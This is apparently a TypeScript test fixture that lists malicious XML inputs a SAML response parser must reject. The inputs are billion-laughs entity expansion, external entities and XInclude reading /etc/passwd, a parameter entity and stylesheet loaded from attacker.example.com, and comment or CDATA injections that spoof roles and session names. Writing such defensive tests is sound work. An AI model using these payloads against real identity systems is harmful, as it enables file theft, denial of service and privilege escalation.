/** XML that no assertion needs, and what is no XML. */
import { roleArn } from '../support.ts'
import { around, type Hostile, replace, signed, tampered, written } from './making.ts'

export const markup: readonly Hostile[] = [
  ['a document type', 'SamlXmlForbidden', `<!DOCTYPE samlp:Response>${signed()}`],
  [
    'a billion laughs',
    'SamlXmlForbidden',
    `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${signed().replace('web@', '&b;')}`,
  ],
  [
    'an external entity',
    'SamlXmlForbidden',
    `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${signed().replace('web@', '&x;')}`,
  ],
  [
    'a parameter entity',
    'SamlXmlForbidden',
    `<!doctype r [<!ENTITY % x SYSTEM "https://attacker.example.com/x.dtd"> %x;]>${signed()}`,
  ],
  ['an entity in an attribute', 'SamlXmlForbidden', tampered(replace('Version="2.0"', 'Version="&two;"'))],
  ['an entity of HTML', 'SamlXmlForbidden', tampered(replace('web@', 'web&nbsp;@'))],
  [
    'XInclude',
    'SamlXmlForbidden',
    tampered(
      replace(
        '<samlp:Status>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><samlp:Status>',
      ),
    ),
  ],
  ['a style sheet', 'SamlXmlForbidden', `<?xml-stylesheet href="https://attacker.example.com/x.xsl"?>${signed()}`],
  ['a processing instruction in the assertion', 'SamlXmlForbidden', tampered(replace('web@', '<?php ?>web@'))],
  ['a comment in NameID', 'SamlXmlForbidden', tampered(replace('c4n4ry-subject', 'c4n4ry-<!-- -->subject'))],
  ['a comment in Role', 'SamlXmlForbidden', tampered(replace(`${roleArn},`, `${roleArn}<!-- -->-admin,`))],
  [
    'a comment in RoleSessionName',
    'SamlXmlForbidden',
    tampered(replace('web@example.com', 'web@example.com<!-- -->.attacker.example.com')),
  ],
  ['CDATA in RoleSessionName', 'SamlXmlForbidden', tampered(replace('web@example.com', '<![CDATA[web@example.com]]>'))],
  ['another encoding declared', 'SamlNotText', `<?xml version="1.0" encoding="UTF-7"?>${signed()}`],
  ['UTF-16 read as UTF-8', 'SamlNotText', Buffer.from(signed(), 'utf16le').toString('utf8')],
  ['a null byte', 'SamlNotText', tampered(replace('web@', 'web\0@'))],
  ['a null byte as a reference', 'SamlNotText', written(replace('web@', 'web&#0;@'))],
  ['half a character', 'SamlNotText', tampered(replace('web@', 'web\ud800@'))],
  [
    'bytes that are no UTF-8',
    'SamlNotText',
    Buffer.from(signed().replace('web@', 'w\xe9b@'), 'latin1').toString('utf8'),
  ],
  ['nothing but text', 'SamlNotXml', 'c4n4ry'],
  ['a web page', 'SamlNotXml', '<html><body><p>Sign in<br></body></html>'],
  ['a truncated response', 'SamlNotXml', signed().slice(0, -20)],
  ['a tag that does not end', 'SamlNotXml', signed().slice(0, -1)],
  ['two roots', 'SamlNotXml', `${signed()}<x/>`],
  ['an end too many', 'SamlNotXml', `${signed()}</x>`],
  ['an attribute twice', 'SamlNotXml', tampered(replace('Version="2.0"', 'Version="2.0" Version="2.0"'))],
  ['a prefix that stands for nothing', 'SamlNotXml', tampered(replace('<samlp:Status>', '<x:Status/><samlp:Status>'))],
  ['an attribute without quotes', 'SamlNotXml', tampered(replace('Version="2.0"', 'Version=2.0'))],
  ['100,000 elements deep', 'SamlTooLarge', '<a>'.repeat(100_000)],
  ['too deep', 'SamlTooComplex', around(`${'<a>'.repeat(60)}${'</a>'.repeat(60)}`)],
  ['too many elements', 'SamlTooComplex', around('<a/>'.repeat(4_000))],
  [
    'too many attributes',
    'SamlTooComplex',
    around(`<a ${Array.from({ length: 80 }, (_, at) => `a${at}="x"`).join(' ')}/>`),
  ],
  ['too large', 'SamlTooLarge', signed({ nameId: 'n'.repeat(80_000) })],
  ['too large by bytes, not by characters', 'SamlTooLarge', signed({ nameId: '\u4e00'.repeat(30_000) })],
]
